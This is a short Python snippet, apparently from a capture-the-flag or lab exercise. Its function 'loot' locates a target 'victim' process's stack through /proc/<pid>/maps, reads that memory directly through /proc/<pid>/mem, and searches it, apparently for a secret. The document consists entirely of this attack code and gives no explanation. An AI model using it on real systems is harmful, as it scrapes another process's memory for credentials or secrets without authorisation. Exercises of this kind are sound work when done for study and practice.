# %%
from kit import *

# %%
def loot():
    try:
        with open(f"/proc/{WORLD['victim']}/maps") as maps:
            stack = next(line for line in maps if "[stack]" in line)
        start, end = (int(part, 16) for part in stack.split()[0].split("-"))
        with open(f"/proc/{WORLD['victim']}/mem", "rb", 0) as memory:
            memory.seek(start)
            return search(memory.read(end - start))
    except (OSError, StopIteration):
        return None
